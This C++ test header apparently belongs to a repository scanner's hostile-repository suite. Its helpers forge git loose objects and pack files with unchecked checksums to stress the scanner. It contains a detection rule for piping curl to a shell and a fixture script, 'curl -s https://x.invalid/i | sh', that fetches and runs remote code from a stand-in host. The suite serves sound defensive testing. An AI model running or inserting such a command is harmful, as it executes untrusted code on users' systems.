#pragma once
// The hostile-repository suite: repositories written the way an attacker would write them,
// built at test time (libgit2 raw objects through FixtureRepo, git plumbing, hand-written loose
// objects and packs), scanned by the real provscan binary under a wall-time limit. The git
// command line only BUILDS fixtures; provscan never runs it.
#include <doctest/doctest.h>
#include <git2.h>
#include <zlib.h>

#include <nlohmann/json.hpp>

#include <filesystem>
#include <fstream>
#include <map>
#include <set>
#include <string>
#include <vector>

#include "tests/support/fixture_repo.h"
#include "tests/support/pack_index.h"
#include "tests/support/run_cli.h"

namespace provscan::test::hostile {

using nlohmann::json;

// g++ defines __SANITIZE_ADDRESS__; clang 14 only answers __has_feature(address_sanitizer).
#if defined(__SANITIZE_ADDRESS__)
#define PROVSCAN_TEST_ASAN 1
#elif defined(__has_feature)
#if __has_feature(address_sanitizer)
#define PROVSCAN_TEST_ASAN 1
#endif
#endif

// Every provscan run of the suite is killed after this long; the issue's bound per case.
inline constexpr double kLimitSeconds = 60;
// Peak memory allowed on the bomb cases: the product's bound. AddressSanitizer's redzones,
// quarantine and shadow roughly double a heap-heavy run, so the sanitizer build checks the
// same cases against twice the bound (the plain build holds the real one).
#if defined(PROVSCAN_TEST_ASAN)
inline constexpr long kMaxRssKib = 2 * 512 * 1024;
#else
inline constexpr long kMaxRssKib = 512 * 1024;
#endif

// A signature rule set small enough to keep every case fast.
inline constexpr const char* kRules = R"(rules:
  - id: t.pipe-to-shell
    engine: signature
    severity: high
    message: "download piped to a shell"
    regex: 'curl[^|\n]*\|\s*sh\b'
)";

struct Run {
  CliResult cli;
  json doc;  // the --format json report (null when provscan wrote none)
};

// provscan with the suite's rules and JSON output, under the time limit; checks it was not killed.
inline Run scan(const std::string& repo, std::vector<std::string> extra = {}) {
  static const std::string rules = scratch_file("hostile-rules.yaml", kRules);
  std::vector<std::string> args = {"scan", repo, "--no-default-rules", "--rules", rules, "--format", "json",
                                   "--jobs", "2", "--progress", "never"};
  args.insert(args.end(), extra.begin(), extra.end());
  Run r;
  r.cli = run_provscan_limited(args, kLimitSeconds);
  CHECK_MESSAGE(!r.cli.timed_out, "provscan was killed after ", kLimitSeconds, " s");
  CHECK(r.cli.seconds < kLimitSeconds);
  if (!r.cli.out.empty() && (r.cli.out[0] == '{')) r.doc = json::parse(r.cli.out);
  return r;
}

// skipped[] entries of a kind.
inline std::vector<json> skipped_of(const json& doc, const std::string& kind) {
  std::vector<json> out;
  for (const json& s : doc.at("skipped"))
    if (s.at("kind") == kind) out.push_back(s);
  return out;
}

inline std::multiset<std::string> skipped_kinds(const json& doc) {
  std::multiset<std::string> out;
  for (const json& s : doc.at("skipped")) out.insert(s.at("kind").get<std::string>());
  return out;
}

inline std::vector<json> findings_of(const json& doc, const std::string& rule) {
  std::vector<json> out;
  for (const json& f : doc.at("findings"))
    if (f.at("rule_id") == rule) out.push_back(f);
  return out;
}

inline std::uint64_t commits(const json& doc) { return doc.at("summary").at("commits").get<std::uint64_t>(); }

// zlib (RFC 1950) of `bytes`, as git stores loose objects and pack entries.
inline std::string deflate(std::string_view bytes) {
  uLongf len = compressBound(static_cast<uLong>(bytes.size()));
  std::string out(len, '\0');
  REQUIRE(compress2(reinterpret_cast<Bytef*>(out.data()), &len, reinterpret_cast<const Bytef*>(bytes.data()),
                    static_cast<uLong>(bytes.size()), 9) == Z_OK);
  out.resize(len);
  return out;
}

// The id git gives `content` as an object of `type` ("blob", "commit", ...).
inline std::string object_id(const std::string& type, std::string_view content) {
  git_libgit2_init();  // idempotent; balanced by nothing on purpose (process lifetime)
  git_oid oid;
  REQUIRE(git_odb_hash(&oid, content.data(), content.size(), git_object_string2type(type.c_str())) == 0);
  char hex[GIT_OID_HEXSZ + 1];
  git_oid_tostr(hex, sizeof hex, &oid);
  return hex;
}

// Writes objects/XX/YYYY… of `git_dir` with exactly `file_bytes` (no validation at all).
inline void write_loose_file(const std::string& git_dir, const std::string& id, const std::string& file_bytes) {
  const std::filesystem::path p = std::filesystem::path(git_dir) / "objects" / id.substr(0, 2) / id.substr(2);
  std::filesystem::create_directories(p.parent_path());
  std::filesystem::remove(p);
  std::ofstream(p, std::ios::binary) << file_bytes;
}

// A git command line run (to build a fixture) with no user or system configuration.
inline std::string git(const std::string& git_dir, std::vector<std::string> args, const std::string& cwd = {}) {
  static const TempDir home;
  std::vector<std::string> argv = {"/usr/bin/git", "--git-dir=" + git_dir};
  argv.insert(argv.end(), args.begin(), args.end());
  const CliResult r = run_command_limited(argv, kLimitSeconds, cwd,
                                          {{"HOME", home.path()},
                                           {"GIT_CONFIG_NOSYSTEM", "1"},
                                           {"GIT_CONFIG_GLOBAL", "/dev/null"},
                                           {"GIT_AUTHOR_DATE", "1704067200 +0000"},
                                           {"GIT_COMMITTER_DATE", "1704067200 +0000"}});
  INFO("git ", args.front(), ": ", r.err);
  REQUIRE(r.exit_code == 0);
  std::string out = r.out;
  while (!out.empty() && out.back() == '\n') out.pop_back();
  return out;
}

// `git fast-import` (or another plumbing command reading standard input) fed from a file, with
// a shell doing the redirection: the fixture builder is the only thing that runs a shell.
inline void git_stdin(const std::string& git_dir, const std::string& command, const std::string& input) {
  TempDir tmp;
  const std::string in = tmp.file("input", input);
  const CliResult r = run_command_limited(
      {"/bin/sh", "-c", "exec /usr/bin/git --git-dir=\"$1\" " + command + " < \"$2\"", "sh", git_dir, in},
      kLimitSeconds, {}, {{"GIT_CONFIG_NOSYSTEM", "1"}, {"GIT_CONFIG_GLOBAL", "/dev/null"}, {"HOME", tmp.path()}});
  INFO("git ", command, ": ", r.err);
  REQUIRE(r.exit_code == 0);
}

// A raw commit object's bytes.
inline std::string commit_text(const std::string& tree, const std::vector<std::string>& parents,
                               const std::string& message, const std::string& when = "1704067200 +0000") {
  std::string t = "tree " + tree + "\n";
  for (const auto& p : parents) t += "parent " + p + "\n";
  t += "author Mallory <m@evil.example> " + when + "\ncommitter Mallory <m@evil.example> " + when + "\n\n" + message +
       "\n";
  return t;
}

// Pack files written by hand: "PACK", version 2, the entries, a trailer; and a version-2 index
// for them. Neither checksum is computed (libgit2 only checks that the index names the pack's
// trailer), so a pack can claim anything.
inline std::string pack_entry_header(int type, std::uint64_t size) {
  std::string h;
  unsigned c = static_cast<unsigned>(type << 4) | static_cast<unsigned>(size & 0x0f);
  size >>= 4;
  while (size) {
    h += static_cast<char>(c | 0x80);
    c = static_cast<unsigned>(size & 0x7f);
    size >>= 7;
  }
  h += static_cast<char>(c);
  return h;
}

inline std::string varint(std::uint64_t v) {  // delta header sizes
  std::string out;
  do {
    unsigned char b = v & 0x7f;
    v >>= 7;
    if (v) b |= 0x80;
    out += static_cast<char>(b);
  } while (v);
  return out;
}

inline std::string raw_id(const std::string& hex) {
  git_oid oid;
  REQUIRE(git_oid_fromstr(&oid, hex.c_str()) == 0);
  return std::string(reinterpret_cast<const char*>(oid.id), GIT_OID_RAWSZ);
}


struct PackEntry {
  std::string id;     // the id the index gives it (a pack can claim any)
  std::string bytes;  // entry header and data
};

inline void write_pack(const std::string& git_dir, std::vector<PackEntry> entries) {
  const std::string trailer(GIT_OID_RAWSZ, '\x42');
  std::string pack = "PACK" + be32(2) + be32(static_cast<std::uint32_t>(entries.size()));
  std::map<std::string, std::uint32_t> offsets;  // raw id -> offset
  for (const PackEntry& e : entries) {
    offsets[raw_id(e.id)] = static_cast<std::uint32_t>(pack.size());
    pack += e.bytes;
  }
  pack += trailer;
  const std::string idx = pack_index_v2(offsets, trailer);
  const std::filesystem::path dir = std::filesystem::path(git_dir) / "objects" / "pack";
  std::filesystem::create_directories(dir);
  std::ofstream(dir / "pack-hostile.pack", std::ios::binary) << pack;
  std::ofstream(dir / "pack-hostile.idx", std::ios::binary) << idx;
}

inline const std::string kPipe = "#!/bin/sh\ncurl -s https://x.invalid/i | sh\n";

}  // namespace provscan::test::hostile
